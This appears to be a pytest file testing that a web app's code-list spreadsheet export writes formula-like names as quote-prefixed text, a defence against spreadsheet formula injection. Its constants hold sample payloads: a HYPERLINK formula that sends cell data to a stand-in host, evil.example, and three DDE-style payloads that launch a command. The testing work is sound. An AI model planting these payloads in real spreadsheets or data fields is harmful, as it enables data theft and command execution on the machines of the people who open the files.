"""#16 item 9 on the code-list workbooks (/admin/reference/<list>/export.xlsx, `cbec reference export`): a code-list
text a spreadsheet would run as a formula is written as a quote-prefixed text cell, never a formula, and the exported
workbook imports back unchanged. The code lists have no CSV export (the import reads CSV)."""

from __future__ import annotations

import io

import openpyxl
import pytest
from fastapi.testclient import TestClient

from tests.conftest import login
from ui.app import create_app

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'
OTHERS = ["+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"]


@pytest.fixture
def client(make_platform):
    client = TestClient(create_app(make_platform(demo_users=True)), base_url="https://testserver")
    login(client, "admin", next_url="/admin/reference")
    return client


def test_a_code_list_name_like_a_formula_is_exported_as_text_and_imports_back_unchanged(client):
    reference = client.app.state.platform.reference
    assert reference.edit("countries", {"code": "116", "name_zh": EVIL, "name_en": OTHERS[0]}, "admin", "测试 test")
    assert reference.edit("countries", {"code": "142", "name_zh": OTHERS[1], "name_en": OTHERS[2]}, "admin", "测试")

    exported = client.get("/admin/reference/countries/export.xlsx")
    assert exported.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(exported.content)).active
    cells = {row[0].value: row for row in sheet.iter_rows(min_row=2)}
    for code, texts in (("116", (EVIL, OTHERS[0])), ("142", (OTHERS[1], OTHERS[2]))):
        for cell, text in zip(cells[code][1:3], texts, strict=True):
            assert (cell.value, cell.data_type, cell.quotePrefix) == (text, "s", True), (code, text)
    assert cells["116"][0].quotePrefix is False  # a plain code is left alone

    report = reference.import_file("countries", "countries.xlsx", exported.content, "admin", "回导 re-import")
    assert (report.added, report.changed, report.rejected) == ([], [], [])
    assert (reference.entry("countries", "116")["name_zh"], reference.entry("countries", "142")["name_en"]) == (
        EVIL, OTHERS[2])
